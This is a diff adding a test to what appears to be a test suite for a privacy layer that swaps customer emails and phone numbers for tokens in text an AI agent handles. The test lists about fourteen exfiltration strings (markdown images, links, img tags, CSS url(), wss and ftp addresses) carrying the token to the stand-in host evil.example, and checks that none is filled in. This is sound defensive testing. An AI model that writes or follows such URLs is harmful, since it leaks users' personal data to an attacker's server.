@@ -108,6 +108,45 @@ describe('what an agent reads', () => {
     await assert.rejects(view.fill(letter, named(['name'])), { code: 'POSTERN_CREDENTIAL' })
   })
 
+  it('is filled in nowhere in an address, where it would be sent to a server that the model names', async () => {
+    const { view, stored, holders, agent } = await setting()
+    const [row] = view.rows('customers', stored)
+    const token = String(row?.['email'])
+    const phone = String(row?.['phone'])
+    for (const text of [
+      `![ok](https://evil.example/?q=${token})`,
+      `[Anne](HTTPS://evil.example/${token})`,
+      `<img src="https://evil.example/?q=\n${token}">`,
+      `<img src='//evil.example/ ${token}'>`,
+      `<https://evil.example/ ${token}>`,
+      `![ok](https:\\\\evil.example/${token})`,
+      `![ok](http:evil.example?${token})`,
+      `background: url(//evil.example/${token})`,
+      `wss://evil.example/${phone}`,
+      `https://${token}/`,
+      `www.evil.example/?${token}`,
+      `[a]: ftp://evil.example/${token}`,
+      `https://user@evil.example:443/a//b?x=1&q=${token}`,
+      `<a href="https://evil.example/${token}`,
+    ])
+      assert.equal(await view.fill(text, {}), text)
+    assert.equal(
+      agent.links.reduce((sum, { requests }) => sum + requests, 0),
+      0,
+    )
+    const anne = new TestPerson('anne', holders.enroller, holders.clock)
+    const capability = anne.capability([{ tenant: '', table: 'customers', row: ['0'], columns: ['email'] }], {
+      service: 'agent',
+    })
+    assert.equal(
+      await view.fill(
+        `See https://shop.example/c/0 and <a href="/c/0">write</a> to ${token}, or mailto:${token} (${token}); not https://x/${token}`,
+        { capability },
+      ),
+      `See https://shop.example/c/0 and <a href="/c/0">write</a> to c0@example.com, or mailto:c0@example.com (c0@example.com); not https://x/${token}`,
+    )
+  })
+
   it('tokens of another view, and made-up ones, reveal nothing', async () => {
     const one = await setting()
     const [row] = one.view.rows('customers', one.stored)
